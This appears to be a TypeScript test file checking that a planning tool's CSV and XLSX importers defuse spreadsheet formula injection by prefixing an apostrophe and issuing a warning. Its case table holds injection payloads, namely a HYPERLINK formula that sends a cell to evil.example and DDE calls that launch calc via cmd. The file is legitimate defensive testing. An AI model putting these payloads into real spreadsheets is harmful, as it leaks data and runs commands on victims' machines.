/**
 * A plan cell that a spreadsheet would run as a formula is defused the same way whether the plan
 * came as CSV or XLSX, by the one rule in domain/spreadsheet-text.ts that the CSV reports use too.
 */
import fc from 'fast-check';
import { csvCell } from '../../domain/spreadsheet-text';
import { importCsvPlan } from '../../plans/importers/csv';
import { importXlsxPlan } from '../../plans/importers/xlsx';
import type { ImportResult } from '../../plans/model';
import { options, toCsv, toXlsx } from './support';

function plan(title: string, deliverable: string): string[][] {
  return [
    ['Plan de Prueba 2023'],
    ['Actividades', 'Fecha inicial', 'Fecha Final', 'Responsable', 'PRODUCTO O ENTREGABLE'],
    [title, '4-ene-23', '31-ene-23', 'OAPLA', deliverable],
  ];
}

/** The same sheet through both importers. */
async function bothImporters(title: string, deliverable = 'Informe.'): Promise<{ csv: ImportResult; xlsx: ImportResult }> {
  const rows = plan(title, deliverable);
  return {
    csv: importCsvPlan(toCsv(rows, ';'), options('plan.csv')),
    xlsx: await importXlsxPlan(await toXlsx(rows, { realDates: false }), options('plan.xlsx')),
  };
}

const CASES: [string, string, string][] = [
  ['a HYPERLINK that sends a cell away', '=HYPERLINK("http://evil.example/?d="&A1,"Ver informe")', `'=HYPERLINK("http://evil.example/?d="&A1,"Ver informe")`],
  ['a DDE call behind +', "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ['arithmetic behind -', "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ['a function behind @', "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
  ['a tab before the formula', '\t=1+1', "'=1+1"],
  ['a carriage return before the formula', '\r=1+1', "'=1+1"],
];

describe('cells a spreadsheet would run as formulas', () => {
  it.each(CASES)('%s: stored with an apostrophe in front by the CSV and the XLSX importer alike, with a warning', async (_case, cell, stored) => {
    const { csv, xlsx } = await bothImporters(cell, cell);
    for (const [file, result] of [
      ['plan.csv', csv],
      ['plan.xlsx', xlsx],
    ] as const) {
      expect([file, result.errors]).toEqual([file, []]);
      expect([file, result.plan?.activities[0]?.title, result.plan?.activities[0]?.deliverable]).toEqual([file, stored, stored]);
      expect(result.warnings).toContainEqual(
        expect.objectContaining({ file, activity: 1, field: 'title', message: expect.stringContaining('leería como fórmula') }),
      );
    }
  });

  it('a dash inside the text, and text already defused, are kept as they are', async () => {
    const { csv, xlsx } = await bothImporters('Informe - parte 2', "'=ya con apóstrofo");
    for (const result of [csv, xlsx]) {
      expect(result.plan?.activities[0]).toMatchObject({ title: 'Informe - parte 2', deliverable: "'=ya con apóstrofo" });
      expect(result.warnings).toEqual([]);
    }
  });

  it('the CSV reports defuse by the same rule, a leading tab or carriage return included', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe('"\'\r=1+1"');
  });

  it('any such text: both importers store the same defused text, and the CSV report writes it as it would the original', async () => {
    const text = fc
      .tuple(fc.constantFrom('=', '+', '-', '@'), fc.stringMatching(/^[A-Za-z0-9 ()!|&"'.,:*/+=-]{0,30}$/))
      // The importers collapse runs of spaces in a title (as any cell): the property is about the first character.
      .map(([first, rest]) => `${first}${rest}`.replace(/ {2,}/g, ' ').trimEnd());
    await fc.assert(
      fc.asyncProperty(text, async (cell) => {
        const { csv, xlsx } = await bothImporters(cell);
        const fromCsv = csv.plan?.activities[0]?.title;
        expect(fromCsv).toBe(`'${cell}`);
        expect(xlsx.plan?.activities[0]?.title).toBe(fromCsv);
        expect(csvCell(fromCsv!)).toBe(csvCell(cell));
      }),
      { numRuns: 200 },
    );
  });
});
